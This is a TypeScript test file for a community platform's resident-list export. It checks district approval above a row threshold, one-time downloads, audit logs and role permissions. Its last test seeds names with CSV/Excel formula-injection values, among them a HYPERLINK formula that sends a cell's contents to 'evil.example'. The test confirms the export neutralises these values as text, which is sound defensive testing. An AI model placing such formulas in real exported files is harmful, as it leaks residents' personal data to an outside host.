import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestPlatform, type TestPlatform } from '../../../test/support/test-platform.js';
import { login, type Client } from '../../../test/support/http.js';
import type { LinliApp } from '../../platform/http/app.js';

let t: TestPlatform;
let app: LinliApp;
beforeAll(async () => {
  t = await createTestPlatform({ seed: { profile: 'huangpu', scale: 0.001 } });
  app = await t.app();
});
afterAll(() => t.close());

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const download = (c: Client, id: number) =>
  app.inject({ method: 'POST', url: `/api/people/export-requests/${id}/download`, headers: { cookie: c.cookie, 'x-csrf-token': c.csrf }, payload: {} });
async function sheetRows(payload: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  return book.worksheets[0]!.rowCount - 1;
}

describe('export approval over HTTP, with the demo accounts', () => {
  it("a small list downloads at once; a street's whole list needs a reason and the district's approval", async () => {
    const worker = await login(app, 'worker');
    const small = await app.inject({ method: 'GET', url: '/api/people/persons/export', headers: { cookie: worker.cookie } });
    expect(small.statusCode).toBe(200);
    expect(small.headers['content-type']).toBe(XLSX);

    const street = await login(app, 'street');
    const refused = await street.get('/api/people/persons/export');
    expect(refused.status).toBe(400);
    expect(refused.body.error.code).toBe('EXPORT_APPROVAL_REQUIRED');
    expect(refused.body.error.message).toContain('超过本区 200 行的限额');
    const rows = refused.body.error.details.rows as number;
    expect(rows).toBeGreaterThan(200);
    const english = await street.get('/api/people/persons/export', { 'accept-language': 'en' });
    expect(english.body.error.message).toContain("above this district's limit of 200");

    const asked = await street.get(`/api/people/persons/export?reason=${encodeURIComponent('防汛排查：全街道居民名单')}`);
    expect(asked.status).toBe(202);
    expect(asked.body).toMatchObject({ status: 'pending', rows, reason: '防汛排查：全街道居民名单', can: { decide: false, download: false } });

    // The district decides it; the street's colleagues and the committees below do not see it to decide.
    const head = await login(app, 'head');
    expect((await head.get('/api/people/export-requests')).body.items.map((r: { id: number }) => r.id)).not.toContain(asked.body.id);
    const district = await login(app, 'district');
    const toDecide = (await district.get('/api/people/export-requests?view=decide&status=pending')).body;
    expect(toDecide.approvalAbove).toBe(200);
    expect(toDecide.items.find((r: { id: number }) => r.id === asked.body.id)).toMatchObject({
      requesterName: '街道城运中心 李强',
      can: { decide: true, download: false },
    });
    expect((await street.post(`/api/people/export-requests/${asked.body.id}/decide`, { approve: true })).body.error.code).toBe('EXPORT_OWN_REQUEST');
    expect((await district.post(`/api/people/export-requests/${asked.body.id}/decide`, { approve: true, note: '限本次排查使用' })).body).toEqual({
      id: asked.body.id,
      status: 'approved',
    });

    const file = await download(street, asked.body.id);
    expect(file.statusCode).toBe(200);
    expect(await sheetRows(file.rawPayload)).toBe(rows);
    const again = await download(street, asked.body.id);
    expect(again.statusCode).toBe(410);
    expect(again.json().error.code).toBe('EXPORT_DOWNLOADED');
    const logged = await t.core.db
      .selectFrom('audit_event')
      .select(['action', 'purpose'])
      .where('target_type', '=', 'export_request')
      .where('target_id', '=', String(asked.body.id))
      .orderBy('seq')
      .execute();
    expect(logged).toEqual([
      { action: 'people.export.request', purpose: null },
      { action: 'people.export.approve', purpose: null },
      { action: 'people.export.download', purpose: '防汛排查：全街道居民名单' },
    ]);
  });

  it("the demo's pending request from `worker` is decided by `head`, and downloaded by `worker` only", async () => {
    const head = await login(app, 'head');
    const pending = (await head.get('/api/people/export-requests?view=decide')).body.items;
    const demo = pending.find((r: { requesterName: string }) => r.requesterName === '社工 王芳');
    expect(demo).toMatchObject({ status: 'pending', filters: { ageMin: 60 }, can: { decide: true } });
    const worker2 = await login(app, 'worker2');
    expect((await worker2.post(`/api/people/export-requests/${demo.id}/decide`, { approve: true })).status).toBe(403);
    expect((await worker2.get('/api/people/export-requests')).body.items).toEqual([]);
    expect((await head.post(`/api/people/export-requests/${demo.id}/decide`, { approve: true, note: '同意' })).status).toBe(200);
    expect((await download(head, demo.id)).json().error.code).toBe('EXPORT_NOT_REQUESTER');
    const worker = await login(app, 'worker');
    const mine = (await worker.get('/api/people/export-requests?view=mine')).body.items.find((r: { id: number }) => r.id === demo.id);
    expect(mine).toMatchObject({ status: 'approved', decidedByName: '居委会书记 周丽', decisionNote: '同意', can: { download: true } });
    const file = await download(worker, demo.id);
    expect(file.statusCode).toBe(200);
    expect(await sheetRows(file.rawPayload)).toBe(demo.rows);
  });

  it("the district's staff read and change the threshold; a street cannot", async () => {
    const district = await login(app, 'district');
    const districtId = (await t.core.db.selectFrom('district').select('id').executeTakeFirstOrThrow()).id;
    expect((await district.get(`/api/people/export-policy/${districtId}`)).body).toMatchObject({ approvalAbove: 200, isDefault: true });
    expect((await district.post(`/api/people/export-policy/${districtId}`, { approvalAbove: 1000 })).body).toMatchObject({
      approvalAbove: 1000,
      isDefault: false,
    });
    const street = await login(app, 'street');
    expect((await street.get(`/api/people/export-policy/${districtId}`)).status).toBe(403);
    expect((await street.get('/api/people/persons/export')).status).toBe(200);
    expect((await district.post(`/api/people/export-policy/${districtId}`, { approvalAbove: -1 })).status).toBe(400);
  });

  it('a name or address typed as a formula comes out as text, numbers stay numbers', async () => {
    const worker = await login(app, 'worker');
    const exported = async () => {
      const res = await app.inject({ method: 'GET', url: '/api/people/persons/export?sort=name', headers: { cookie: worker.cookie } });
      expect(res.statusCode).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const rows: ExcelJS.CellValue[][] = [];
      book.worksheets[0]!.eachRow((row, n) => void (n > 1 && rows.push((row.values as ExcelJS.CellValue[]).slice(1))));
      return rows;
    };
    const [first, second, third] = await exported();
    const hostile = { [Number(first![0])]: '=HYPERLINK("http://evil.example/?x="&A1,"点我")', [Number(second![0])]: '@SUM(1+1)', [Number(third![0])]: '-2+3' };
    for (const [id, name] of Object.entries(hostile)) await t.core.db.updateTable('person').set({ name }).where('id', '=', Number(id)).execute();
    const after = new Map((await exported()).map((r) => [Number(r[0]), r]));
    for (const [id, name] of Object.entries(hostile)) {
      const row = after.get(Number(id))!;
      expect(row[1]).toBe(`'${name}`);
      // The id and the age are still numbers, not text.
      expect(typeof row[0]).toBe('number');
      if (row[3] !== undefined && row[3] !== null && row[3] !== '') expect(typeof row[3]).toBe('number');
    }
  });
});
